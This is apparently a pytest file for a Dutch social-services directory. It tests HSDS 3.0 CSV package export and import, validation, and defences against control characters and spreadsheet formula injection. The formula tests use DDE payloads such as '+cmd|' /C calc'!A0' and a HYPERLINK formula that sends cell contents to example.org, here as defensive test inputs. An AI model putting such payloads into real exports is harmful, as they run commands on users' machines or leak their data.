"""HSDS 3.0 packages: the export validates against HSDS's datapackage.json; export + import round-trips."""

import csv
import json
import re
import uuid
from datetime import date, datetime, time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rfc3986_validator import validate_rfc3986
from sqlalchemy import select
from sqlalchemy.orm import selectinload

from sociale_kaart.directory import hsds_io, moderation, seed, services
from sociale_kaart.directory.cli import DEMO_FOLDER
from sociale_kaart.directory.models import Location, Organization, Service, ServiceAtLocation
from sociale_kaart.extensions import db
from tests.builders import make_user

from ..api import hsds_schemas

_DATETIME = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?(Z|[+-]\d\d:\d\d)")


def _valid(kind, fmt, value):
    """Check one non-empty cell against a Table Schema field type and format."""
    if fmt == "uuid":
        return str(uuid.UUID(value)) == value.lower()
    if fmt == "email":
        return re.fullmatch(r"[^@\s]+@[^@\s]+\.[^@\s]+", value) is not None
    if fmt == "uri":
        return validate_rfc3986(value, rule="URI")
    if kind == "number":
        return float(value) == float(value)
    if kind == "date":
        return date.fromisoformat(value).isoformat() == value
    if kind == "time":
        return time.fromisoformat(value).strftime("%H:%M:%S") == value
    if kind == "datetime":
        return _DATETIME.fullmatch(value) is not None
    return kind == "string"


def validate_package(folder):
    """Return every way a package breaks HSDS 3.0's datapackage.json (Table Schema rules it uses)."""
    official = hsds_schemas.datapackage()
    ours = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    problems = []
    if ours["profile"] != official["profile"] or ours["resources"] != official["resources"]:
        problems.append("datapackage.json does not describe HSDS 3.0's resources")
    tables = {}
    for resource in official["resources"]:
        path = folder / resource["path"]
        if not path.exists():
            problems.append(f"{resource['path']} is missing")
            continue
        with path.open(encoding="utf-8", newline="") as handle:
            reader = csv.reader(handle)
            header = next(reader)
            rows = [dict(zip(header, row, strict=True)) for row in reader]
        fields = resource["schema"]["fields"]
        if header != [f["name"] for f in fields]:
            problems.append(f"{resource['path']}: header {header}")
        tables[resource["name"]] = rows
        for f in fields:
            values = [row[f["name"]] for row in rows]
            constraints = f.get("constraints", {})
            for line, value in enumerate(values, start=2):
                where = f"{resource['path']}:{line} {f['name']}"
                if not value:
                    if constraints.get("required"):
                        problems.append(f"{where} is required")
                    continue
                if "enum" in constraints and value not in constraints["enum"]:
                    problems.append(f"{where}: {value!r} not in enum")
                try:
                    ok = _valid(f["type"], f.get("format"), value)
                except ValueError:
                    ok = False
                if not ok:
                    problems.append(f"{where}: {value!r} is not a {f['type']} {f.get('format') or ''}")
            filled = [v for v in values if v]
            if constraints.get("unique") and len(filled) != len(set(filled)):
                problems.append(f"{resource['path']} {f['name']} is not unique")
    for resource in official["resources"]:
        for key in resource["schema"].get("foreignKeys", []):
            target = {row[key["reference"]["fields"]] for row in tables.get(key["reference"]["resource"], [])}
            for line, row in enumerate(tables.get(resource["name"], []), start=2):
                value = row[key["fields"]]
                if value and value not in target:
                    problems.append(
                        f"{resource['path']}:{line} {key['fields']} {value} has no {key['reference']['resource']}"
                    )
    return problems, {name: len(rows) for name, rows in tables.items()}


@pytest.fixture(scope="module")
def demo_package(demo_app, tmp_path_factory):
    folder = tmp_path_factory.mktemp("hsds-export")
    with demo_app.app_context():
        hsds_io.export_package(folder)
    return folder


def test_the_export_validates_against_the_hsds_datapackage(demo_package):
    problems, counts = validate_package(demo_package)
    assert problems == []
    assert counts["service"] == 164 and counts["organization"] == 59 and counts["location"] == 62
    assert counts["service_at_location"] == 171 and counts["taxonomy"] == 9 and counts["attribute"] > 1000
    assert counts["contact"] == counts["program"] == 0


def test_the_export_validates_as_json_objects_too(demo_package):
    """Each CSV row, typed, is a valid HSDS object (the JSON schemas' view of the same data)."""
    for name in ("organization", "service", "location", "schedule", "attribute", "taxonomy_term", "address"):
        with (demo_package / hsds_io.resources()[name][0]).open(encoding="utf-8", newline="") as handle:
            for row in csv.DictReader(handle):
                record = {key: value for key, value in row.items() if value}
                for key in ("minimum_age", "maximum_age", "latitude", "longitude", "interval"):
                    if key in record:
                        record[key] = float(record[key])
                assert hsds_schemas.errors(f"{name}.json", record) == []


def _load(model, *options):
    return {row.uuid: row for row in db.session.scalars(select(model).options(*options))}


def _service_values(service):
    return {
        **{name: getattr(service, name) for name in hsds_io.SERVICE_FIELDS},
        "organization": service.organization.uuid,
        "categories": [term.code for term in service.categories],
        "target_groups": [term.code for term in service.target_groups],
        "service_areas": [area.code for area in service.service_areas],
        "links": sorted((link.uuid, link.location.uuid, link.description) for link in service.location_links),
        "schedules": sorted((s.uuid, s.weekday, s.opens_at, s.closes_at, s.description) for s in service.schedules),
    }


LOCATION_FIELDS = (
    "location_type",
    "name",
    "description",
    "address_1",
    "postal_code",
    "city",
    "state_province",
    "country",
    "lat",
    "lon",
    "transportation",
    "accessibility",
)
ORGANIZATION_FIELDS = ("name", "alternate_name", "description", "email", "website", "phone")


def _snapshot():
    service_options = (
        selectinload(Service.categories),
        selectinload(Service.target_groups),
        selectinload(Service.service_areas),
        selectinload(Service.schedules),
        selectinload(Service.location_links).selectinload(ServiceAtLocation.location),
        selectinload(Service.organization),
    )
    return {
        "services": {key: _service_values(s) for key, s in _load(Service, *service_options).items()},
        "locations": {
            key: {
                **{f: getattr(loc, f) for f in LOCATION_FIELDS},
                "area": loc.area.code if loc.area else None,
                "organization": loc.organization.uuid if loc.organization else None,
            }
            for key, loc in _load(Location, selectinload(Location.area)).items()
        },
        "organizations": {
            key: {f: getattr(o, f) for f in ORGANIZATION_FIELDS} for key, o in _load(Organization).items()
        },
    }


def test_export_then_import_into_an_empty_database_reproduces_the_published_listings(demo_app, demo_package, app):
    with demo_app.app_context():
        original = _snapshot()
    seed.load_areas(DEMO_FOLDER, services.geocoder(), app.config["MUNICIPALITY_CODE"])

    report = hsds_io.import_package(demo_package, services.search_backend())
    assert report.problems == [] and report.notes == []
    assert dict(report.created) == {"organization": 59, "location": 62, "service": 164}
    drafts = db.session.scalars(select(Service)).all()
    assert {s.publication_status for s in drafts} == {"pending"}
    assert services.search_listings(services.SearchCriteria()).total == 0  # nothing public yet

    # the broker publishes them from the queue, where each waits as a new listing
    admin = make_user(roles=("admin",))
    queue = moderation.moderation_queue(admin)
    assert len(queue.new) == 164
    for item in queue.new:
        assert moderation.approve_change(item.change.id, by=admin)
    imported = _snapshot()
    assert imported == original
    assert (len(imported["services"]), len(imported["locations"]), len(imported["organizations"])) == (164, 62, 59)
    # the same five listings unchecked for over 12 months stay out of search (issue #3)
    assert services.search_listings(services.SearchCriteria()).total == 171 - 5


def test_importing_the_same_package_twice_updates_instead_of_duplicating(demo_package, app):
    seed.load_areas(DEMO_FOLDER, services.geocoder(), app.config["MUNICIPALITY_CODE"])
    hsds_io.import_package(demo_package, services.search_backend())
    first = _snapshot()
    again = hsds_io.import_package(demo_package, services.search_backend())
    assert dict(again.created) == {} and dict(again.updated) == {}
    assert dict(again.unchanged) == {"organization": 59, "location": 62, "service": 164}
    assert _snapshot() == first


def _rewrite(folder, path, change):
    file = folder / path
    with file.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
        header = list(rows[0])
    rows = change(rows)
    with file.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, header)
        writer.writeheader()
        writer.writerows(rows)


def test_a_changed_published_service_goes_back_to_draft_and_unchanged_ones_stay_public(seeded_app, tmp_path):
    hsds_io.export_package(tmp_path)
    target = db.session.scalars(select(Service).where(Service.slug == "respijt-aan-huis-doorn")).one()

    def rename(rows):
        for row in rows:
            if row["id"] == target.uuid:
                row["name"] = "Respijt aan huis (nieuw)"
        return rows

    _rewrite(tmp_path, "services.csv", rename)
    report = hsds_io.import_package(tmp_path, services.search_backend())
    assert report.back_to_draft == ["Respijt aan huis (nieuw)"]
    assert dict(report.updated) == {"service": 1} and report.unchanged["service"] == 163
    db.session.expire_all()
    statuses = dict(db.session.execute(select(Service.uuid, Service.publication_status)).all())
    assert statuses.pop(target.uuid) == "pending"
    assert set(statuses.values()) == {"published"}
    names = {
        listing.service.name
        for listing in services.search_listings(services.SearchCriteria(text="respijt", per_page=100)).listings
    }
    assert "Respijt aan huis" not in names and "Respijt aan huis (nieuw)" not in names


def test_control_characters_in_an_imported_package_never_reach_the_database(seeded_app, tmp_path):
    """An operator's file is outside input too (issue #12): NUL (which PostgreSQL refuses), a form
    feed or an escape are taken out; the line breaks of a description stay."""
    hsds_io.export_package(tmp_path)
    target = db.session.scalars(select(Service).where(Service.slug == "respijt-aan-huis-doorn")).one()

    def poison(rows):
        for row in rows:
            if row["id"] == target.uuid:
                row["name"] = "Respijt\x00 aan\x0c huis\x1b (nieuw)"
                row["description"] = "Eerste alinea.\n\nTweede\x00 alinea."
        return rows

    _rewrite(tmp_path, "services.csv", poison)
    report = hsds_io.import_package(tmp_path, services.search_backend())
    assert report.back_to_draft == ["Respijt aan huis (nieuw)"]
    db.session.expire_all()
    service = db.session.get(Service, target.id)
    assert service.name == "Respijt aan huis (nieuw)"
    assert service.description == "Eerste alinea.\n\nTweede alinea."


# --- formula injection (issue #12) --------------------------------------------------------------------


@pytest.mark.parametrize(
    "value, cell",
    [
        ('=HYPERLINK("https://example.org","klik")', '\'=HYPERLINK("https://example.org","klik")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "''=1+1"),  # a quote of its own stays after the round trip
        ("+31 343 000 101", "+31 343 000 101"),  # phone numbers and numbers keep their sign
        ("-0.5", "-0.5"),
        ("0343-000101", "0343-000101"),
        ("Koffie & een praatje", "Koffie & een praatje"),
        ("'t Hof", "'t Hof"),
        ("", ""),
    ],
)
def test_a_cell_that_starts_like_a_formula_gets_a_quote(value, cell):
    assert hsds_io.formula_safe(value) == cell
    assert hsds_io.unquote_formula(cell) == value


@given(st.text())
def test_formula_safe_cells_never_start_a_formula_and_come_back_unchanged(text):
    cell = hsds_io.formula_safe(text)
    assert cell[:1] not in hsds_io.FORMULA_STARTS or re.fullmatch(r"[+-]?[0-9][0-9 ().+-]*", cell)
    assert hsds_io.unquote_formula(cell) == text


def test_the_import_takes_the_quote_off_that_another_system_put_before_a_formula_character():
    assert hsds_io.unquote_formula("'+31 343 000 101") == "+31 343 000 101"
    assert hsds_io.unquote_formula("'=SUM(1)") == "=SUM(1)"
    assert hsds_io.unquote_formula("'t Hof") == "'t Hof"


def test_the_export_neutralises_formulas_and_our_import_gives_the_values_back(seeded_app, tmp_path):
    service = db.session.scalars(select(Service).where(Service.slug == "respijt-aan-huis-doorn")).one()
    service.name = '=HYPERLINK("https://example.org/?"&A1,"Respijt")'
    service.description = "+cmd|' /C calc'!A0"
    service.summary = "@SUM(1+1)"
    service.organization.phone = "+31 343 000 101"
    db.session.commit()
    hsds_io.export_package(tmp_path)

    cells = []
    for path in tmp_path.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    assert '\'=HYPERLINK("https://example.org/?"&A1,"Respijt")' in cells
    assert "'+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)" in cells and "+31 343 000 101" in cells
    formulas = [
        cell
        for cell in cells
        if cell[:1] in hsds_io.FORMULA_STARTS and not re.fullmatch(r"[+-]?[0-9][0-9 ().+-]*", cell)
    ]
    assert formulas == []

    report = hsds_io.import_package(tmp_path, services.search_backend())
    assert report.problems == [] and dict(report.updated) == {}
    assert dict(report.unchanged) == {"organization": 59, "location": 62, "service": 164}


FOREIGN = {
    "organizations.csv": [
        "id,name,description,email,website",
        "0a4a5e5e-1111-4c1c-9d0d-000000000001,Buurtzorg Voorbeeld,Zorg in de wijk,info@buurtzorg.example.org,"
        "https://buurtzorg.example.org",
        "not-a-uuid,Kapotte organisatie,,,",
        "0a4a5e5e-1111-4c1c-9d0d-000000000003,,zonder naam,,",
    ],
    "services.csv": [
        "id,organization_id,name,description,status,minimum_age,assured_date",
        "0b4a5e5e-2222-4c1c-9d0d-000000000001,0a4a5e5e-1111-4c1c-9d0d-000000000001,Wijkverpleging,"
        "Verpleging thuis,active,18,2026-09-01",
        "0b4a5e5e-2222-4c1c-9d0d-000000000002,0a4a5e5e-1111-4c1c-9d0d-000000000001,Kapotte status,,open,,",
        "0b4a5e5e-2222-4c1c-9d0d-000000000003,0a4a5e5e-1111-4c1c-9d0d-00000000dead,Zonder organisatie,,active,,",
        "0b4a5e5e-2222-4c1c-9d0d-000000000004,0a4a5e5e-1111-4c1c-9d0d-000000000001,Te oud,,active,twaalf,",
    ],
    "locations.csv": [
        "id,location_type,organization_id,name,latitude,longitude",
        "0c4a5e5e-3333-4c1c-9d0d-000000000001,physical,0a4a5e5e-1111-4c1c-9d0d-000000000001,Wijkpost,52.04,5.34",
        "0c4a5e5e-3333-4c1c-9d0d-000000000002,physical,,Nergens,95.0,5.3",
    ],
    "addresses.csv": [
        "id,location_id,address_1,city,state_province,postal_code,country,address_type",
        "0d4a5e5e-4444-4c1c-9d0d-000000000001,0c4a5e5e-3333-4c1c-9d0d-000000000001,Dorpsstraat 3,Doorn,Utrecht,"
        "3941ab,NL,physical",
    ],
    "service_at_location.csv": [
        "id,service_id,location_id,description",
        "0e4a5e5e-5555-4c1c-9d0d-000000000001,0b4a5e5e-2222-4c1c-9d0d-000000000001,"
        "0c4a5e5e-3333-4c1c-9d0d-000000000001,",
        "0e4a5e5e-5555-4c1c-9d0d-000000000002,0b4a5e5e-2222-4c1c-9d0d-000000000001,"
        "0c4a5e5e-3333-4c1c-9d0d-000000000099,",
    ],
    "schedules.csv": [
        "id,service_id,freq,byday,opens_at,closes_at",
        '0f4a5e5e-6666-4c1c-9d0d-000000000001,0b4a5e5e-2222-4c1c-9d0d-000000000001,WEEKLY,"MO,WE",09:00,17:00',
        "0f4a5e5e-6666-4c1c-9d0d-000000000002,0b4a5e5e-2222-4c1c-9d0d-000000000001,MONTHLY,MO,09:00,12:00",
        "0f4a5e5e-6666-4c1c-9d0d-000000000003,0b4a5e5e-2222-4c1c-9d0d-000000000001,WEEKLY,FR,17:00,09:00",
    ],
    "taxonomies.csv": ["id,name,description", "1a4a5e5e-7777-4c1c-9d0d-000000000001,Open Eligibility,Categories"],
    "taxonomy_terms.csv": [
        "id,code,name,description,taxonomy_id",
        "1b4a5e5e-8888-4c1c-9d0d-000000000001,101,Home care,Care at home,1a4a5e5e-7777-4c1c-9d0d-000000000001",
    ],
    "attributes.csv": [
        "id,link_id,taxonomy_term_id,link_type,link_entity,value",
        "1c4a5e5e-9999-4c1c-9d0d-000000000001,0b4a5e5e-2222-4c1c-9d0d-000000000001,"
        "1b4a5e5e-8888-4c1c-9d0d-000000000001,,service,",
        f"1c4a5e5e-9999-4c1c-9d0d-000000000002,0b4a5e5e-2222-4c1c-9d0d-000000000001,"
        f"{uuid.uuid5(uuid.UUID('1f6f4c1e-5b0a-4d8e-9c3a-7e2d5b8a9f10'), 'taxonomy_term:cost:zorgverzekering')},"
        ",service,",
    ],
    "contacts.csv": [
        "id,service_id,name",
        "1d4a5e5e-aaaa-4c1c-9d0d-000000000001,0b4a5e5e-2222-4c1c-9d0d-000000000001,Jan Jansen",
    ],
}


def test_a_package_with_broken_rows_imports_the_good_rows_and_reports_each_bad_one(app, tmp_path):
    seed.load_areas(DEMO_FOLDER, services.geocoder(), app.config["MUNICIPALITY_CODE"])
    for name, lines in FOREIGN.items():
        (tmp_path / name).write_text("\n".join(lines) + "\n", encoding="utf-8")

    report = hsds_io.import_package(tmp_path, services.search_backend())

    problems = {(p.file, p.line): p.reason for p in report.problems}
    assert set(problems) == {
        ("organizations.csv", 3),
        ("organizations.csv", 4),
        ("services.csv", 3),
        ("services.csv", 4),
        ("services.csv", 5),
        ("locations.csv", 3),
        ("service_at_location.csv", 3),
        ("schedules.csv", 3),
        ("schedules.csv", 4),
        ("attributes.csv", 2),
        ("contacts.csv", 2),
    }, problems
    assert "not a uuid" in problems[("organizations.csv", 3)]
    assert "name is empty" in problems[("organizations.csv", 4)]
    assert "status 'open'" in problems[("services.csv", 3)]
    assert "organization_id" in problems[("services.csv", 4)]
    assert "twaalf" in problems[("services.csv", 5)]
    assert "latitude" in problems[("locations.csv", 3)]
    assert "location_id" in problems[("service_at_location.csv", 3)]
    assert "MONTHLY" in problems[("schedules.csv", 3)]
    assert "before" in problems[("schedules.csv", 4)]
    assert "Home care" in problems[("attributes.csv", 2)]
    assert "contacts" in problems[("contacts.csv", 2)]

    service = db.session.scalars(select(Service)).one()
    assert (service.name, service.publication_status, service.minimum_age) == ("Wijkverpleging", "pending", 18)
    assert service.cost == ["zorgverzekering"] and service.pyramid_level == "vrij_toegankelijk"
    assert [(s.weekday, s.opens_at) for s in service.schedules] == [(0, time(9)), (2, time(9))]
    location = service.location_links[0].location
    assert (location.postal_code, location.area.code, location.address_1) == ("3941 AB", "doorn", "Dorpsstraat 3")
    assert service.organization.name == "Buurtzorg Voorbeeld" and not service.organization.is_demo
    assert any("pyramid_level" in note for note in report.notes)


def test_the_commands_export_and_import(seeded_app, tmp_path):
    runner = seeded_app.test_cli_runner()
    exported = runner.invoke(args=["hsds", "export", str(tmp_path / "pakket")])
    assert exported.exit_code == 0 and "164 service" in exported.output
    assert (tmp_path / "pakket" / "datapackage.json").exists()
    imported = runner.invoke(args=["hsds", "import", str(tmp_path / "pakket")])
    assert imported.exit_code == 0, imported.output
    assert "Unchanged: 62 location, 59 organization, 164 service." in imported.output
    assert "Created: none." in imported.output


def test_the_import_command_lists_rows_it_could_not_use(app, tmp_path):
    (tmp_path / "organizations.csv").write_text("id,name,description\nnot-a-uuid,X,\n", encoding="utf-8")
    result = app.test_cli_runner().invoke(args=["hsds", "import", str(tmp_path)])
    assert result.exit_code == 0
    assert "1 rows not used" in result.output and "organizations.csv:2: id 'not-a-uuid' is not a uuid" in result.output


def test_the_export_is_the_same_twice(demo_app, tmp_path):
    with demo_app.app_context():
        first, _ = hsds_io.package_files()
        second, _ = hsds_io.package_files()
    assert {k: v for k, v in first.items() if k != "datapackage.json"} == {
        k: v for k, v in second.items() if k != "datapackage.json"
    }
    assert datetime.fromisoformat(json.loads(first["datapackage.json"])["created"].replace("Z", "+00:00"))


def test_more_opening_periods_a_day_than_the_form_shows_are_reported_not_silently_kept(app, tmp_path):
    seed.load_areas(DEMO_FOLDER, services.geocoder(), app.config["MUNICIPALITY_CODE"])
    package = {
        name: list(lines)
        for name, lines in FOREIGN.items()
        if name in ("organizations.csv", "services.csv", "locations.csv", "addresses.csv", "service_at_location.csv")
    }
    package["schedules.csv"] = ["id,service_id,freq,byday,opens_at,closes_at"] + [
        f"0f4a5e5e-6666-4c1c-9d0d-00000000010{n},0b4a5e5e-2222-4c1c-9d0d-000000000001,WEEKLY,TU,{start},{end}"
        for n, (start, end) in enumerate(
            [("08:00", "09:00"), ("10:00", "11:00"), ("13:00", "14:00"), ("19:00", "20:00")]
        )
    ]
    for name, lines in package.items():
        (tmp_path / name).write_text("\n".join(lines) + "\n", encoding="utf-8")

    report = hsds_io.import_package(tmp_path, services.search_backend())

    service = db.session.scalars(select(Service).where(Service.name == "Wijkverpleging")).one()
    assert [(s.weekday, s.opens_at) for s in service.schedules] == [(1, time(8)), (1, time(10)), (1, time(13))]
    assert any("19:00-20:00 not imported" in note for note in report.notes)
